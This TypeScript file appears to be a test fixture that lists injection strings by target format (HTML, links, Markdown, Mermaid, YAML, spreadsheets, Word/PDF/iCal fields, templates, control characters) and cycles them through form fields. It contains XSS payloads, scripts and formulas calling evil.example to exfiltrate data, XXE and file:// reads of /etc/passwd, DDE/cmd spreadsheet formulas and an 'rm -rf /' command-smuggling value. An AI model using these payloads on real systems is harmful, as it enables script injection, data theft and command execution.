/**
 * Texts that would become something else than text if a format let them: markup, scripts, styles, links, commands,
 * formulas, fields, structure. Grouped by the format that they are aimed at; every format gets all of them.
 */
const html: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '"><svg onload=alert(1)>',
  '<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '</svg><img src=x onerror=alert(1)>',
  '</text></svg><script>alert(1)</script>',
  '</title></svg><script>alert(1)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '</td></table><h1>owned</h1>',
  '</dd></dl></section></main><h1>owned</h1>',
  "' onmouseover='alert(1)",
  '" onfocus="alert(1)" autofocus tabindex="0" x="',
  '" style="position:fixed;inset:0;background:red',
  '` onclick=alert(1) `',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="command:workbench.action.closeWindow">click</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name=q><button>Send</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<body onload=alert(1)><details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!-- comment --> <![CDATA[ x ]]> <?php ?>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script><![CDATA[',
  ']]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &lt;b&gt; &#60;b&#62; &copy &amp;amp;',
  '&#x3C;img src=x onerror=alert(1)&#x3E; &NewLine;&Tab;&colon;',
  '</title></style><style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  'expression(alert(1)); background: url(https://evil.example/x.png); behavior: url(#x)',
  '</style><script>alert(1)</script>',
  '<div data-start="0" data-end="9" data-vscode-context=\'{"webviewSection":"x"}\'>place</div>',
];

const links: readonly string[] = [
  'javascript:alert(1) data:text/html,<b>x</b> vbscript:msgbox(1)',
  'JaVaScRiPt:alert(1) \u0001javascript:alert(1) java\nscript:alert(1)',
  'command:workbench.action.terminal.new?%5B%22x%22%5D',
  'vscode:extension/evil.evil vscode-insiders://file/etc/passwd',
  'file:///etc/passwd \\\\evil.example\\share smb://evil.example',
  'www.evil.example ftp://evil.example xmpp:a@evil.example tel:+1900 sms:1',
  '//evil.example/x https:evil.example http:\\\\evil.example',
  'https://good.example/"><script>alert(1)</script>',
  "https://good.example/'onmouseover='alert(1)",
  'https://good.example/`alert(1)`?a=1&b=<2>#[x](y)',
  'https://user:password@evil.example/ https://[::1]/ https://evil.example\u202E/moc.doog',
  'mailto:a@b.example?subject=x&body=javascript:alert(1) mailto:<script>@x.example',
  'a@evil.example <javascript:alert(1)> <https://evil.example/<script>>',
];

const markdown: readonly string[] = [
  '[click](javascript:alert(1))',
  '[click](https://evil.example/)',
  '[click](command:workbench.action.closeWindow "title")',
  '[a](<javascript:alert(1)>) [b][] [c](data:text/html;base64,PHNjcmlwdD4=)',
  '![pixel](https://evil.example/pixel.png)',
  '![pixel][x]\n\n[x]: https://evil.example/pixel.png "title"',
  '[reference][id]\n\n[id]: javascript:alert(1)',
  '[^note] [x] - [ ] task\n\n[^note]: footnote',
  '# heading',
  '## heading\n\n# heading',
  'setext\n===\nsetext\n---',
  '- item\n- item',
  '1. one\n2) two',
  '+ plus',
  '> quote',
  '> [!CAUTION]\n> alert',
  '    code',
  '\tcode',
  '```\ncode\n```',
  '```mermaid\nflowchart TD\n  a-->b\n  click a "javascript:alert(1)"\n```',
  '~~~\ncode\n~~~',
  '`code` ``co`de`` `',
  '**bold** __bold__ *it* _it_ ~~gone~~ ***',
  '| a | b |\n| - | - |\n| c | d |',
  'a | b \\| c \\',
  '\\[x\\](javascript:alert(1)) \\',
  '$math$ $$math$$ \\(x\\) $`x`$',
  ':smile: @user #12 GH-12 owner/repository#1',
  '---\ntitle: front matter\n---',
  '***',
  '\u00A0# heading',
  '&nbsp;&nbsp;&nbsp;&nbsp;code',
  '<details><summary>x</summary></details><kbd>x</kbd><br/>',
  'line with two spaces  \nand a hard break\\\nhere',
];

const diagrams: readonly string[] = [
  '%%{init: {"securityLevel": "loose", "themeCSS": "*{display:none}"}}%%',
  'a"] --> b["x',
  'end',
  'subgraph x\nend',
  'click A call alert()',
  'A-->|text|B; style A fill:red; classDef x fill:red',
  'x:::class @{ shape: rect } #quot; #35; #lt;b#gt;',
  '): ((x)) {y} [z] (w) >v] [/u/] ;; :: ,, section x',
  'title x\ndateFormat YYYY\nsection y\nz : crit, 2026-01-01, 1d',
  '"x" "y" \'z\' `w` "`**markdown**`"',
];

const editor: readonly string[] = [
  '$(alert) $(zap~spin) $(sync)',
  '$' + '{1:placeholder} $0 $1 $' + '{TM_SELECTED_TEXT} $' + '{CLIPBOARD}',
  '$' + '{env:HOME} $' + '{workspaceFolder} $' + '{config:x} $' + '{command:x}',
  '#file:x /command @workspace',
  '\\$ \\} \\\\ }$' + '{2|a,b|}',
];

const yaml: readonly string[] = [
  '*alias &anchor !tag !!js/function x',
  '<<: *x',
  '&a [*a, *a]',
  'key: value\nother: [a, b]',
  '# comment # comment',
  '? complex : key',
  '{a: b, c} [d',
  '--- \n...\n%YAML 1.2',
  '| block\n  text',
  "it's \"quoted\" 'text'",
  'null',
  '~',
  '0x1F 1e999 .inf .nan',
  'yes',
];

const sheets: readonly string[] = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=1+1',
  '+1',
  '+cmd|x!A0',
  '-1',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFF1D1+1',
  "'=1+1",
  '"=1+1',
  '","=1+1","',
  'a,b;c\td"e"\nf',
  'sep=;',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '%0A=1+1',
  '|=1+1',
];

const words: readonly string[] = [
  '{ HYPERLINK "https://evil.example/" }',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }',
  'INCLUDETEXT "file:///etc/passwd" \\* MERGEFORMAT',
  '</w:t></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r><w:r><w:t>',
  '<w:altChunk r:id="rId1"/><w:object/>',
  '</dc:title><cp:keywords>x</cp:keywords>',
  ') Tj ET endstream endobj <</S/JavaScript/JS(app.alert(1))>>',
  '(\\) /URI (javascript:alert(1)) >> [ ] << /Type /Action',
  'BEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT',
  'END:VCALENDAR',
  'x;y,z\\n\\,\\; ATTACH:file:///etc/passwd',
  'text\r\nATTENDEE:mailto:victim@example.com\r\nX-EVIL:1',
];

const templates: readonly string[] = [
  '{{7*7}} {%raw%} <%= 7*7 %> #{7*7} %s %n %x',
  '{{constructor.constructor("alert(1)")()}} [[x]] ${'.concat('7*7}'),
  "$& $1 $` $' $$ $<name>",
  '__proto__',
  'constructor',
  'toString',
  'undefined',
  '[object Object]',
  '../../etc/passwd',
  'CON',
  '--option; rm -rf / | cat && x `id` $(id)',
];

const structure: readonly string[] = [
  'TIER STRUCTURE\n\nTier 9 (Fake): none | none\n\nReview cadence: never',
  'Full launch:\nnow',
  'before\u2014after \u2014 and\u2015or \u2E3A x \u2E3B y\uFE58z \uFE31 w \u2013 v',
  '\u2014',
  '\u2014 attribution',
  'ends \u2014',
];

const characters: readonly string[] = [
  'nul \u0000 bell \u0007 escape \u001B[31m delete \u007F next \u0085 feed \u000C end',
  '\u001B]8;;https://evil.example/\u0007click\u001B]8;;\u0007',
  'lone \uD800 surrogate \uDC00 and \uFFFE \uFFFF',
  'overridden \u202E txt.exe \u202C \u202Dleft\u202C',
  'isolated \u2066left\u2069 \u2067right\u2069 \u2068first\u2069 \u200E\u200F\u061C',
  'zero\u200Bwidth\u200Cjoiner\u200Dword\u2060joiner\uFEFF and soft\u00ADhyphen',
  'line\u2028separator\u2029paragraph\r\ncarriage\rreturn',
  'combining Z\u0351\u0343\u0349\u035A\u0318 and tag \u{E0041}\u{E007F} and \u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  'שלום עולם (abc) مرحبا 123',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E \u02BAx\u02BA \u2039img\u203A',
  ' ',
  '',
];

const long: readonly string[] = [
  'x'.repeat(5_000),
  '<b>'.repeat(700),
  '['.repeat(800) + ']'.repeat(800),
  'word '.repeat(1_000).trim(),
];

export const injections: readonly string[] = [
  ...html,
  ...links,
  ...markdown,
  ...diagrams,
  ...editor,
  ...yaml,
  ...sheets,
  ...words,
  ...templates,
  ...structure,
  ...characters,
  ...long,
];

/**
 * What stands in one field in one round: another one in each field, and in as many rounds as there are injections each
 * one once in every field.
 *
 * @param field the number of the field in its plan
 */
export function injectionFor(field: number, round: number): string {
  // Neighbors in a plan get texts that are far apart in the list, so that not all of one kind meet in one place.
  return injections[(field * 37 + round) % injections.length] ?? '';
}
